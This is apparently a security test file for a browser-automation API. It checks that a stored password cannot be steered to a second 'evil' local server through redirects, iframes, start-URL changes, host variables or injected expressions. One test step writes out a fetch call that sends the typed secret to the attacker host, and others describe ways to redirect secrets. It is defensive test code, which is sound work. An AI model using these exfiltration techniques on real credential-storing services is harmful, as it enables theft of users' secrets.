import { expect } from 'bun:test'
import type { Answer } from '../fixtures.ts'

/** Secrets to be typed, long enough to be found in any encoding. */
const SECRET = 'correct-horse-battery'

/** A page that sends everything typed into it to its own server, one key at a time. */
const FORM = `<!doctype html><title>Sign in</title><input id=pass><button id=buy>Buy</button>
<script>pass.oninput = () => fetch('/typed?v=' + encodeURIComponent(pass.value))</script>`

/** Two sites: the recorded one and an attacker's. Closed at the end of the block. */
export interface TwoSites extends Disposable {
  shop: string
  evil: string
  /** Requested URLs of each site. */
  askedOf: { shop: string[]; evil: string[] }
}

export function openTwoSites(): TwoSites {
  const askedOf: TwoSites['askedOf'] = { shop: [], evil: [] }
  const site = (name: 'shop' | 'evil', answer: (path: string) => Response | null) =>
    Bun.serve({
      hostname: '127.0.0.1',
      port: 0,
      fetch({ url }) {
        askedOf[name].push(url)
        return answer(new URL(url).pathname) ?? new Response(FORM, { headers: { 'content-type': 'text/html' } })
      },
    })
  const evil = site('evil', () => null)
  const evilUrl = `http://127.0.0.1:${evil.port}`
  const shop = site('shop', (path) => {
    if (path === '/away') return Response.redirect(`${evilUrl}/`)
    const frame = `<!doctype html><iframe src="${evilUrl}/" width=400 height=200></iframe>`
    return path === '/framed' ? new Response(frame, { headers: { 'content-type': 'text/html' } }) : null
  })
  return {
    shop: `http://127.0.0.1:${shop.port}`,
    evil: evilUrl,
    askedOf,
    [Symbol.dispose]() {
      void shop.stop(true)
      void evil.stop(true)
    },
  }
}

/** The program under attack: functions that call the API and wait for a run. */
export interface Attacked {
  call(method: string, path: string, body?: object): Promise<Pick<Answer, 'status' | 'body'>>
  ended(runId: string): Promise<{ status: string; error: string | null }>
}

const open = (url: string) => ({ type: 'navigate', url })
const TYPE = { type: 'change', selectors: ['#pass'], value: '{{password}}' }
/** Timeout in ms of steps that must fail. Each of these steps waits for the full timeout. */
const FAILING_STEP_MS = 2000
const wait = (expression: string, timeout = 10_000) => ({ type: 'waitForExpression', expression, timeout })

const flow = (steps: object[], more: object = {}) => ({
  name: 'Sign in',
  recording: { title: 'Sign in', timeout: 10_000, steps },
  retries: 0,
  secrets: { password: SECRET },
  ...more,
})

/** Creates a flow test whose secret was entered by another user, and returns its id. */
async function made({ call }: Attacked, steps: object[], more: object = {}): Promise<string> {
  const { status, body } = await call('POST', '/v1/flows/tests', flow(steps, more))
  expect([status, body.error ?? null]).toEqual([201, null])
  return body.id
}

async function walked({ call, ended }: Attacked, id: string, input: object = {}) {
  const { status, body } = await call('POST', `/v1/flows/tests/${id}/run`, input)
  expect([status, body.error ?? null]).toEqual([201, null])
  return ended(body.id)
}

/**
 * Tries every request that would send a stored secret to another host. Each must be rejected with an error that names
 * the field.
 */
export async function attackByRequests(world: Attacked, { shop, evil }: TwoSites): Promise<void> {
  const { call } = world
  const steps = [open(`${shop}/`), TYPE]
  const id = await made(world, steps, { variables: { host: new URL(shop).host, text: 'x' } })
  const put = (change: object) =>
    call('PUT', `/v1/flows/tests/${id}`, { ...flow(steps), secrets: undefined, ...change })
  const otherSteps = (...more: object[]) => ({ recording: { title: '', steps: more } })
  const changes: Record<string, object> = {
    'a start page': { startUrl: `${evil}/` },
    'a first page': otherSteps(open(`${evil}/`), TYPE),
    'a later page': otherSteps(...steps, open(`${evil}/`), TYPE),
    'a page whose host is a variable': {
      ...otherSteps(open('http://{{host}}/'), TYPE),
      variables: { host: new URL(evil).host },
    },
    'a frame': otherSteps(...steps, { ...TYPE, target: `${evil}/` }),
    'a named host': { secretHosts: [new URL(evil).host] },
    'an expression': otherSteps(...steps, wait(`fetch('${evil}/?' + pass.value)`)),
    'a secret that is kept': { startUrl: `${evil}/`, secrets: { password: null } },
    'one new secret, another kept': { startUrl: `${evil}/`, secrets: { other: 'x', password: null } },
  }
  for (const [what, change] of Object.entries(changes)) {
    const { status, body } = await put(change)
    expect([what, status]).toEqual([what, 400])
    expect(body.error).toMatch(/^secrets\.password: enter it again/)
  }
  const start = await call('POST', `/v1/flows/tests/${id}/run`, { startUrl: `${evil}/` })
  expect(start).toMatchObject({ status: 400, body: { error: expect.stringMatching(/^startUrl: .*password/) } })
  // The same change is allowed with a newly entered secret, which belongs to the attacker.
  expect((await put({ startUrl: `${evil}/`, secrets: { password: 'mine' } })).status).toBe(200)
}

/** Tries every way to redirect a run of the flow test to another host. */
export async function attackByRuns(world: Attacked, sites: TwoSites): Promise<void> {
  const { shop, evil, askedOf } = sites
  const evilRun = async (what: string, id: string, input: object = {}) => {
    const { status, error } = await walked(world, id, input)
    expect([what, status]).toEqual([what, 'failed'])
    expect(error).toMatch(/are not sent to 127\.0\.0\.1:\d+/)
  }
  const type = { ...TYPE, timeout: FAILING_STEP_MS }
  await evilRun('a redirect', await made(world, [open(`${shop}/away`), type]))
  await evilRun('an element in a frame', await made(world, [open(`${shop}/framed`), { ...type, frame: [0] }]))
  await evilRun(
    'an expression after a redirect',
    await made(world, [open(`${shop}/away`), wait("'{{password}}' == 1", FAILING_STEP_MS)]),
  )
  expect(askedOf.evil.length).toBeGreaterThan(0)
  expect(askedOf.evil.filter((url) => /typed|horse/.test(url))).toEqual([])

  // The stored secret is sent to its own host, and a newly entered secret to the host for which it was entered.
  const id = await made(world, [open(`${shop}/`), TYPE, wait("document.querySelector('#pass').value.length > 5")])
  expect(await walked(world, id)).toMatchObject({ status: 'passed' })
  expect(askedOf.shop.some((url) => url.includes(SECRET))).toBe(true)
  const preview = { startUrl: `${evil}/`, secrets: { password: 'entered-again' } }
  expect(await walked(world, id, preview)).toMatchObject({ status: 'passed' })
  expect(askedOf.evil.some((url) => url.includes('entered-again'))).toBe(true)
  expect(askedOf.evil.filter((url) => url.includes('horse'))).toEqual([])
}
